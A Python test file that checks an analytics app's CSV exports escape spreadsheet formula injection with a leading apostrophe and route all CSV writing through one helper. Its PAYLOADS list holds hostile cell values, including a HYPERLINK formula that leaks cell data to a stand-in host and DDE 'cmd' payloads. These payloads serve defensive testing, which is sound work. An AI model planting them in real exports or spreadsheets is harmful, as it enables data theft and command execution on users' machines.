"""Formula injection in CSV exports: text from imported data that a spreadsheet would run as a formula
(``=HYPERLINK(...)``, ``@SUM(...)``, ``-2+3+cmd|``) is written with a leading apostrophe by every export
(Segments, Logistics, Sourcing, Scenarios, Traceability) through one helper; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import polars as pl

from tests.conftest import ROOT

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Ver pedido")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+1", "\r=1+1"]
FORMULA = re.compile(r"^[\t\r]*[=+\-@]")
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def _dangerous_cells(text: str) -> list[str]:
    """Cells of CSV ``text`` a spreadsheet would read as a formula (numbers such as -2.5 are not)."""
    rows = list(csv.reader(io.StringIO(text)))
    return [c for row in rows for c in row if FORMULA.match(c) and not NUMBER.match(c)]


def _shows_payloads(text: str) -> bool:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return all(any(c == "'" + p for c in cells) for p in PAYLOADS[:3])


def test_the_helper_escapes_formulas_and_keeps_numbers():
    from analytics.csv_export import cell, dicts_csv, frame_csv, rows_csv

    for p in PAYLOADS:
        assert cell(p) == "'" + p
    for keep in ("-2.5", "-3", "+4", "1e-3", "ok", "Lima", "", None, -2.5, 7):
        assert cell(keep) == keep
    text = rows_csv(["a", "=b"], [[p, -1.5] for p in PAYLOADS])
    assert _dangerous_cells(text) == [] and "-1.5" in text and "'=b" in text
    assert _dangerous_cells(dicts_csv([{"x": p} for p in PAYLOADS])) == []
    df = pl.DataFrame({"name": PAYLOADS, "amount": [-1.0] * len(PAYLOADS)}).with_columns(
        pl.col("name").cast(pl.Categorical).alias("cat"))
    out = frame_csv(df)
    assert _dangerous_cells(out) == [] and out.count("-1.0") == len(PAYLOADS)


def test_logistics_export_escapes_imported_text(rt):
    from callbacks.logistics import export_text

    row = {"order_id": PAYLOADS[0], "order_date": "2024-01-02", "country": "US", "region": PAYLOADS[1],
           "city": PAYLOADS[2], "carrier": "@x", "shipping_mode": "standard", "category": "-1+1",
           "origin_dc": "=A1", "amount_pen": -12.5, "late_risk": 0.3, "risk_value": "alto", "p50_days": 3,
           "p90_days": 6, "promised_days": 4, "is_late": False, "actual_days": 5, "reason_1": "carrier",
           "reason_2": "destination"}
    text = export_text([row], "es")
    assert _dangerous_cells(text) == [], _dangerous_cells(text)
    assert _shows_payloads(text) and "-12.5" in text


def test_segments_exports_escape_customer_ids(rt, tmp_path):
    from analytics.segments.cli import write_export
    from analytics.segments.segmentation import SegmentParams, members_csv, segment_one_k

    result = segment_one_k(rt.engine, SegmentParams(k=3, seed=0))
    hostile = result.members.with_columns(
        pl.Series("customer_id", [PAYLOADS[i % 3] for i in range(result.members.height)]))
    text = members_csv(dataclasses.replace(result, members=hostile), None, "en")
    assert _dangerous_cells(text) == [] and _shows_payloads(text)
    path = tmp_path / "segments.csv"
    write_export(path, pl.Series(PAYLOADS[:3]), ["A", "=B", "C"])
    assert _dangerous_cells(path.read_text()) == [] and _shows_payloads(path.read_text())


def test_sourcing_shortlist_escapes_supplier_text(writable_demo_dir):
    from analytics.engine.polars_engine import PolarsEngine
    from analytics.sourcing.shortlist import shortlist_csv

    path = writable_demo_dir / "sourcing_suppliers.parquet"
    df = pl.read_parquet(path)
    df = df.with_columns(pl.lit(PAYLOADS[0]).alias("name"), pl.lit(PAYLOADS[1]).alias("locality"),
                         pl.lit(PAYLOADS[2]).alias("variety"))
    df.write_parquet(path)
    weights = {"sustainability": 40, "price": 30, "reliability": 20, "distance": 10}
    text, rows = shortlist_csv(PolarsEngine(writable_demo_dir), ["cacao", "quinoa"], weights, top_k=3)
    assert rows >= 3
    assert _dangerous_cells(text) == [] and _shows_payloads(text)


def test_scenarios_export_escapes_region_keys(rt):
    from analytics.scenarios import ScenarioInputs, run_scenario, to_csv

    outcome = run_scenario(rt.engine, ScenarioInputs(blockade_days=2), 50, 0, with_tornado=False,
                           with_mitigations=False)
    base = outcome.baseline
    regions = dict(base.by_region)
    code, summary = next(iter(regions.items()))
    regions = {PAYLOADS[0]: summary, PAYLOADS[1]: summary, PAYLOADS[2]: summary}  # imported states are free text
    hostile = dataclasses.replace(outcome, baseline=dataclasses.replace(base, by_region=regions))
    text = to_csv(hostile)
    assert _dangerous_cells(text) == [] and _shows_payloads(text)


def test_every_csv_writer_goes_through_the_one_helper():
    """No export writes CSV by itself: csv writers and Polars ``write_csv`` appear only in the helper (and the
    import's quarantine file, which keeps the refused raw lines exactly as they came)."""
    allowed = {ROOT / "analytics" / "csv_export.py", ROOT / "analytics" / "dataco.py",  # the helper; quarantine
               ROOT / "analytics" / "demand" / "stock.py"}  # the on-hand import's quarantine file
    found = []
    for folder in ("analytics", "callbacks", "components", "web"):
        for f in (ROOT / folder).rglob("*.py"):
            text = f.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\(|\.write_csv\(", text) and f not in allowed:
                found.append(str(f.relative_to(ROOT)))
    assert found == []


def test_traceability_exports_still_escape(writable_demo_dir):
    from analytics.traceability.exports import rows_to_csv

    text = rows_to_csv([{"id": p, "quantity_kg": -3.5} for p in PAYLOADS])
    assert _dangerous_cells(text) == [] and "-3.5" in text
    assert Path(writable_demo_dir).exists()
